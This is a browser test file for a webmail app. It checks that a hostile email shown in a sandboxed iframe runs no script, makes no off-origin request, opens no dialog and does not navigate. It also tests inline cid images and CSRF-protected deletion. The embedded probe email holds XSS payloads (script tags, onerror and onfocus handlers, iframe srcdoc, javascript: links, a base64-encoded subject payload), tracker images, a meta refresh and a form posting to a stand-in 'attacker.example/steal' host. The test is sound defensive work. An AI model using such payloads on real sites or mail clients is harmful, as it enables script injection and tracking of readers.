// The hostile message page in a real Chromium (issue 2, "Done means"): nothing
// runs, nothing is fetched from anywhere but the app, the top page is not
// navigated, and remote images are attempted only after the reader asks for
// them. Off-origin requests are aborted by the route handler, so nothing leaves
// the machine either way.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { existsSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { fixture, harness, type Harness } from '../web/ui-harness.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

// Everything a message could do to prove a script ran: each path sets
// __pwned on itself or its parent, logs, or opens a dialog.
const PROBE_EML = `From: "Security Team" <probe@attacker.example>
To: victim@mailroom.test
Subject: =?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPSJ3aW5kb3cuX19wd25lZD0xIj4=?=
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<script>window.__pwned=1;try{parent.__pwned=1}catch(e){};console.log('PWNED script')</script>
<img src="x" onerror="parent.__pwned=2;console.log('PWNED onerror')">
<svg><script>parent.__pwned=3</script></svg>
<iframe srcdoc="<script>top.__pwned=4</script>"></iframe>
<object data="https://attacker.example/x.swf"></object>
<video poster="https://tracker.example/poster.png"></video>
<picture><source srcset="https://tracker.example/src.png"><img src="https://tracker.example/pic.png"></picture>
<img srcset="https://tracker.example/srcset.png 1x">
<link rel="prefetch" href="https://tracker.example/prefetch">
<meta http-equiv="refresh" content="0;url=https://attacker.example/">
<a href="javascript:parent.__pwned=5" id="js">click</a>
<p style="background-image:url(https://tracker.example/bg.png)">styled</p>
<form action="https://attacker.example/steal"><input name=q autofocus onfocus="parent.__pwned=6"></form>
`.replace(/\n/g, '\r\n');

let h: Harness;
let server: ServerType;
let origin: string;
let browser: Browser;

interface Recorder {
  context: BrowserContext;
  page: Page;
  requests: string[];
  pageRequests: string[];
  offOrigin: string[];
  dialogs: string[];
  console: string[];
  mainNavigations: string[];
  failed: Array<{ url: string; error: string }>;
}

async function recorder(acceptDialogs = false): Promise<Recorder> {
  const context = await browser.newContext();
  const r: Recorder = {
    context,
    page: undefined as unknown as Page,
    requests: [],
    pageRequests: [],
    offOrigin: [],
    dialogs: [],
    console: [],
    mainNavigations: [],
    failed: [],
  };
  // Nothing leaves the machine: off-origin requests are recorded and aborted.
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin === origin) return route.continue();
    r.offOrigin.push(url);
    return route.abort('blockedbyclient');
  });
  context.on('request', (req) => r.requests.push(req.url()));
  context.on('requestfailed', (req) => r.failed.push({ url: req.url(), error: req.failure()?.errorText ?? '' }));
  // A probe the message would have to reach to prove it ran; alert and friends count too.
  await context.addInitScript(() => {
    const w = window as unknown as Record<string, unknown>;
    w.__pwned = 0;
  });
  const page = await context.newPage();
  r.page = page;
  page.on('request', (req) => r.pageRequests.push(req.url()));
  page.on('console', (m) => r.console.push(`${m.type()}: ${m.text()}`));
  page.on('dialog', (d) => {
    r.dialogs.push(`${d.type()}: ${d.message()}`);
    void (acceptDialogs ? d.accept() : d.dismiss());
  });
  page.on('framenavigated', (f) => {
    if (f === page.mainFrame()) r.mainNavigations.push(f.url());
  });
  return r;
}

function offOriginAttempts(r: Recorder): string[] {
  return [...new Set([...r.requests, ...r.pageRequests].filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:')))];
}

async function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as Record<string, unknown>).__pwned);
}

test.before(async () => {
  if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} not found: apt-get install chromium (or set CHROMIUM_PATH)`);
  h = harness();
  await new Promise<void>((resolve) => {
    server = serve({ fetch: h.app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve());
  });
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
  });
});

test.after(async () => {
  await browser?.close();
  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  h?.close();
});

for (const [name, eml] of [
  ['hostile.eml', () => fixture('hostile.eml')],
  ['probe message', () => Buffer.from(PROBE_EML)],
] as const) {
  test(`${name}: no script, no dialog, no navigation, no off-origin request until remote images are loaded`, async () => {
    const id = await h.deliver(eml(), 'victim@mailroom.test');
    const url = `${origin}/inbox/victim@mailroom.test/${id}`;
    const r = await recorder();
    try {
      await r.page.goto(url, { waitUntil: 'load' });
      // Give a meta refresh, a lazy image or a timer time to misbehave.
      await r.page.waitForTimeout(1500);

      const frame = r.page.frames().find((f) => f.url().endsWith(`/${id}/html`));
      assert.ok(frame, `the body iframe loaded (frames: ${r.page.frames().map((f) => f.url()).join(', ')})`);
      assert.ok(r.requests.some((u) => u.endsWith(`/${id}/html`)), 'iframe request recorded context-wide');
      assert.equal(offOriginAttempts(r), [], 'no request off the app origin');
      assert.equal(r.offOrigin, []);
      assert.equal(r.dialogs, [], 'no dialog');
      assert.equal(r.mainNavigations, [url], 'top page not navigated');
      assert.is(r.page.url(), url);
      assert.is(await pwned(r.page), 0, 'window.__pwned untouched');
      assert.equal(
        r.console.filter((m) => /PWNED/.test(m)),
        [],
        'no console output from message script',
      );
      // The sandbox attribute the browser actually applied.
      const sandbox = await r.page.$eval('iframe.body', (el) => el.getAttribute('sandbox'));
      assert.is(sandbox, 'allow-popups allow-popups-to-escape-sandbox');
      // The title is text, not markup.
      assert.match(await r.page.title(), /<(script|img)\b/);
      assert.is(await r.page.locator('script:not([src])').count(), 0);

      // Now the reader asks for remote images: only then are they attempted (and aborted here).
      const link = r.page.locator('#load-remote');
      assert.is(await link.count(), 1, 'a "load remote images" control');
      assert.match((await link.textContent()) ?? '', /Load remote images \(\d+ blocked\)/);
      await Promise.all([r.page.waitForURL(/remote=1/), link.click()]);
      await r.page.waitForLoadState('load');
      await r.page.waitForTimeout(1000);
      const remote = offOriginAttempts(r);
      assert.ok(remote.length > 0, 'remote images attempted after unblocking');
      assert.ok(remote.every((u) => /^https?:\/\/tracker\.example\//.test(u)), `only the tracker images: ${remote.join(', ')}`);
      assert.equal(r.dialogs, [], 'still no dialog');
      assert.is(await pwned(r.page), 0);
    } finally {
      await r.context.close();
    }
  });
}

test('inline cid images load from the app into the sandboxed iframe', async () => {
  const id = await h.deliver(fixture('inline-cid-image.eml'), 'alice@mailroom.test');
  const r = await recorder();
  try {
    const responses: Array<{ url: string; status: number }> = [];
    r.page.on('response', (res) => responses.push({ url: res.url(), status: res.status() }));
    await r.page.goto(`${origin}/inbox/alice@mailroom.test/${id}`, { waitUntil: 'load' });
    await r.page.waitForTimeout(500);
    const cid = `${origin}/inbox/alice@mailroom.test/${id}/cid/logo@x`;
    assert.ok(responses.some((x) => x.url === cid && x.status === 200), `cid image fetched: ${JSON.stringify([responses, r.console, r.failed])}`);
    assert.equal(
      r.failed.filter((f) => f.url === cid),
      [],
      'the cid image is not blocked (CSP img-src or Cross-Origin-Resource-Policy)' + JSON.stringify([r.console, r.failed, r.requests]),
    );
    assert.equal(offOriginAttempts(r), []);
  } finally {
    await r.context.close();
  }
});

test('the Delete button works in a real browser (CSRF cookie, token and Origin)', async () => {
  const id = await h.deliver(fixture('multipart-alternative.eml'), 'd@mailroom.test');
  // Only signed-in readers may delete (issue 13 item 1): sign in first, as a person would.
  await h.store.users.create({ username: 'browserdeleter', password: 'browser-password-1', role: 'user' });
  const r = await recorder(true);
  try {
    await r.page.goto(`${origin}/login`, { waitUntil: 'load' });
    await r.page.fill('input[name="username"]', 'browserdeleter');
    await r.page.fill('input[name="password"]', 'browser-password-1');
    await Promise.all([r.page.waitForURL(/\/account$/), r.page.getByRole('button', { name: 'Sign in' }).click()]);
    await r.page.goto(`${origin}/inbox/d@mailroom.test/${id}`, { waitUntil: 'load' });
    await Promise.all([r.page.waitForURL(/\/inbox\/d@mailroom\.test\?deleted=1$/), r.page.getByRole('button', { name: 'Delete' }).click()]);
    assert.match(await r.page.content(), /Message deleted/);
    assert.is(h.store.messages.get(id), null);
    assert.is(r.dialogs.length, 1, 'our confirm() from /static/app.js');
  } finally {
    await r.context.close();
  }
});

test.run();
